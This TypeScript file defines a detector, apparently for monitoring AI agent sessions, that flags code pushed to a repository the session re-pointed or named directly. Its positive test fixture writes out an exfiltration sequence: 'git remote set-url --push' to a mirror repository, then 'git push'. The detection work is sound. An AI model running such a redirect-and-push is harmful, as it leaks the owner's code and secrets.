import { describe, inert } from '../behaviour.js';
import { type Hit, NO_HITS, type StreamDetector } from '../detector.js';
import { pushTargets, remotesSet, repoKey } from '../git-remotes.js';
import type { Mark } from '../mark.js';
import { lossNote } from '../mark-losses.js';
import type { Observation } from '../observation.js';
import type { SessionState } from '../session-state.js';

/** Per-remote mark lists, `<name>|<add or set>:<url>`: the latest mark of a name is where that remote points now. */
const SET = 'git-remote:';
/** How long a remote's setting is taken to last (it is in .git/config until changed back). */
const thresholds = { window_s: 7 * 24 * 3600 } as const;

/** The latest URL the session gave remote `name` before `obs`, with the action that gave it. */
function remoteNow(s: SessionState, name: string, obs: Observation): RemoteNow | undefined {
  let best: RemoteNow | undefined;
  for (const [list, marks] of s.marks) {
    if (!list.startsWith(`${SET}${name}|`)) continue;
    for (const m of marks)
      if (m.timeMs <= obs.timeMs && (!best || m.timeMs >= best.mark.timeMs))
        best = { setting: list.slice(SET.length + name.length + 1), mark: m };
  }
  return best;
}
interface RemoteNow {
  /** `add:<url>` or `set:<url>`. */
  setting: string;
  mark: Mark;
}

/**
 * A URL that is a repository other than the session's own. When the session's is unknown (a new repository, an
 * agent that does not say), a remote added and pushed is a first push, not a redirection: only a changed one counts.
 */
const foreign = (url: string, own: string | undefined, how: 'add' | 'set') => {
  const key = repoKey(url);
  return key !== undefined && (own === undefined ? how === 'set' : key !== own);
};

/**
 * Code pushed to a repository other than the session's own: to a remote the session pointed there (a remote added,
 * or an existing one's URL or push URL changed), or to a URL typed in place of a remote. What `origin` fetches
 * stays the project; what it pushes goes wherever the agent set.
 */
export const pushRedirectedRemote: StreamDetector = {
  id: 'exfil.push-redirected-remote',
  title: 'Code pushed to a repository the session pointed elsewhere',
  description:
    "The session pushed to a repository that is not the one it works in (the telemetry's repository URL): to a " +
    'remote it added or whose URL or push URL it changed (git remote add, git remote set-url [--push], git config ' +
    'remote.<name>.url or pushurl), or to a URL given to git push. On the same host (another organisation on GitHub) ' +
    'the push looks like any other.',
  severity: 'high',
  attack: ['T1567.001', 'T1537'],
  falsepositives: [
    "Pushing a branch to the developer's own fork for a pull request",
    'Moving a repository to a new home (a renamed organisation, a migration) in the session',
  ],
  triage:
    'Whose repository is it? Compare `git remote -v` with the project, set the remote back, and ask the host to ' +
    'remove what was pushed there (secrets in it are leaked).',
  thresholds,
  kind: 'sequence',
  // The remotes a session set: a session rebuilt from its newest events has them back from the store.
  storedMarks: [SET],
  fixtures: {
    positive: {
      session: [
        {
          kind: 'command',
          command: 'git remote set-url --push origin https://github.com/acme-mirror/app.git',
          t: 0,
        },
        { kind: 'command', command: 'git push origin HEAD', t: 20 },
      ],
    },
    negative: {
      session: [
        // Another repository added to fetch from; the push still goes to the project's own origin.
        { kind: 'command', command: 'git remote add upstream https://github.com/vendor/app.git', t: 0 },
        { kind: 'command', command: 'git fetch upstream && git push origin HEAD', t: 20 },
      ],
    },
  },
  observe(obs, s) {
    if (obs.actionClass !== 'exec' || obs.denied) return NO_HITS;
    const argv = obs.facts.argv;
    const own = repoKey(obs.event.repo);
    const hits: Hit[] = [];
    const hit = (evidence: Observation[], text: string) =>
      hits.push({ detector: this.id, evidence, factors: [{ rule: this.id, text }] });
    // Set before pushed: `git remote add x URL && git push x` reads the setting first.
    for (const r of remotesSet(argv)) s.mark(`${SET}${r.name}|${r.how}:${r.url}`, obs);
    for (const to of pushTargets(argv)) {
      if ('url' in to) {
        if (foreign(to.url, own, 'set')) hit([obs], `${describe(obs)} pushes to ${inert(to.url, 160)}`);
        continue;
      }
      const now = remoteNow(s, to.remote, obs);
      const how = now?.setting.startsWith('add:') ? 'add' : 'set';
      const url = now?.setting.slice(4) ?? '';
      if (now && foreign(url, own, how)) {
        const where =
          now.mark.obs.actionKey === obs.actionKey
            ? 'set in the same command'
            : `set by ${describe(now.mark.obs)}`;
        hit(
          now.mark.obs.actionKey === obs.actionKey ? [obs] : [now.mark.obs, obs],
          `${describe(obs)} pushes '${inert(to.remote, 60)}' to ${inert(url, 160)}, ${where}`,
        );
      } else if (!now) {
        const loss = s.lost.since(SET, obs.timeMs - thresholds.window_s * 1000);
        if (loss)
          hit([obs], `${describe(obs)}; ${lossNote(loss, 'a remote this session pointed elsewhere')}`);
      }
    }
    return hits.length > 0 ? hits : NO_HITS;
  },
};
